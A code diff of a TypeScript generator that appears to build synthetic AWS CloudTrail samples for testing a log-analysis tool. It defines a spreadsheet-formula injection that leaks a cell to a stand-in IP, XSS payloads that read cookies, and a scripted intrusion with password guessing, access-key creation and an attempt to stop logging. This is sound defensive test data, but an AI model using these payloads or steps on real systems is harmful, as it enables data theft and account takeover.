@@ -26,7 +26,7 @@ const FORMULA = '=HYPERLINK("http://198.51.100.66/?leak="&A1,"open")';
 const MARKUP =
   'curl/8.5.0 "quoted", <script>alert(document.cookie)</script>\nX-Second-Line: 1,2,3\t<img src=x onerror=alert(1)>';
 
-/** Days with fewer events than this have no story, except the last: there would be little else. */
+/** Days with fewer events than this have no stories, except the last day: there would be little else. */
 const BUSY_DAY = 500;
 
 /** What happens in every sample: all of it on the last day, so that a report of that day shows it. */
@@ -42,13 +42,13 @@ export function storiesOf(cast: Cast, days: number, events: number, random: Rand
     crossAccount,
     unusualTypes,
   ];
-  const told = stories.flatMap((story) => story(last));
+  const occurrences = stories.flatMap((story) => story(last));
   for (let back = 1; back < days && events / days >= BUSY_DAY; back++) {
     const stage = new Stage(cast, random, LAST_DAY - back * DAY);
-    told.push(...lateSignIns(stage));
-    if (back % 3 === 1) told.push(...guesses(stage, [stage.who.awsadmin, MANAGEMENT, PRODUCTION]));
+    occurrences.push(...lateSignIns(stage));
+    if (back % 3 === 1) occurrences.push(...guesses(stage, [stage.who.awsadmin, MANAGEMENT, PRODUCTION]));
   }
-  return told;
+  return occurrences;
 }
 
 /** Every way into the console, and what the sign-in pages record besides. */
@@ -109,28 +109,24 @@ function rootAtWork(stage: Stage): Occurrence[] {
 function attack(stage: Stage): Occurrence[] {
   const { suzuki, forgotten, awsadmin, tanaka } = stage.who;
   const users = [suzuki, suzuki, forgotten, awsadmin, awsadmin, tanaka];
-  const script = stage.keyed(forgotten, GUESSER, BOTO);
-  const identity = { ...script.identity, ...signedIn(stage.random, stage.at('17:53:38'), false) };
-  const browser: Session = { ...script, identity, agent: HEADLESS, console: true };
+  const keyed = stage.keyed(forgotten, GUESSER, BOTO);
+  const identity = { ...keyed.identity, ...signedIn(stage.random, stage.at('17:53:38'), false) };
+  const browser: Session = { ...keyed, identity, agent: HEADLESS, console: true };
+  const lookAround = 'iam:GetAccountSummary iam:ListUsers iam:ListRoles s3:ListBuckets';
+  const script = 'sts:GetCallerIdentity iam:ListUsers ec2:DescribeInstances';
   const denied =
     'iam:AttachUserPolicy! secretsmanager:GetSecretValue! ec2:RunInstances! cloudtrail:StopLogging!';
   const keyFor = (userName: string, clock: string, session = browser) =>
     stage.calls(clock, TOKYO, session, 'iam:CreateAccessKey', { userName });
+  const login = (visitor: signIns.Visitor) => signIns.userLogin(visitor, forgotten, 'No');
   return [
     ...guesses(stage, [...users, PRODUCTION, MANAGEMENT, ...users]),
-    ...stage.signIns(HEADLESS, [
-      ['17:53:38', VIRGINIA, GUESSER, (at) => signIns.userLogin(at, forgotten, 'No')],
-    ]),
-    ...stage.calls(
-      '17:54:10',
-      TOKYO,
-      browser,
-      'iam:GetAccountSummary iam:ListUsers iam:ListRoles s3:ListBuckets',
-    ),
+    ...stage.signIns(HEADLESS, [['17:53:38', VIRGINIA, GUESSER, login]]),
+    ...stage.calls('17:54:10', TOKYO, browser, lookAround),
     ...keyFor('legacy-report', '17:56:20'),
     ...keyFor('backup-agent', '17:57:02'),
-    ...stage.calls('18:01:00', SYDNEY, script, 'sts:GetCallerIdentity iam:ListUsers ec2:DescribeInstances'),
-    ...stage.calls('18:02:10', SYDNEY, script, denied),
+    ...stage.calls('18:01:00', SYDNEY, keyed, script),
+    ...stage.calls('18:02:10', SYDNEY, keyed, denied),
     ...keyFor('deploy-old', '18:02:41', stage.keyed(tanaka, TOKYO_OFFICE, CLI)),
   ];
 }
@@ -160,7 +156,7 @@ function hostileNames(stage: Stage): Occurrence[] {
   ])];
 }
 
-/** Identities that are neither IAM user nor role: of other accounts and providers, of unknown type, of none at all. */
+/** Identities that are neither IAM user nor role: of other providers, anonymous, of unknown type, without a type. */
 function strangers(stage: Stage): Occurrence[] {
   const auditor = federatedIdentity(stage.who.awsadmin, 'auditor', stage.at('10:05:12'));
   const hanako = { principalId: '6Kb0d2bV8uNcXqzP1rLJ:田中 花子', userName: '田中 花子' };
@@ -189,8 +185,8 @@ function crossAccount(stage: Stage): Occurrence[] {
   return stage.calls('10:30:00', TOKYO, session, 'sts:AssumeRole', request).flatMap(({ at, record }) => {
     const shared = { ...record, sharedEventID: random.uuid() };
     const userIdentity = roleIdentity(scanner, 'scan', at, newKey('ASIA', random));
-    const callers = { ...shared, eventID: random.uuid(), userIdentity, recipientAccountId: SECURITY };
-    return [shared, callers].map((one) => ({ at, record: one }));
+    const atCaller = { ...shared, eventID: random.uuid(), userIdentity, recipientAccountId: SECURITY };
+    return [shared, atCaller].map((one) => ({ at, record: one }));
   });
 }
 
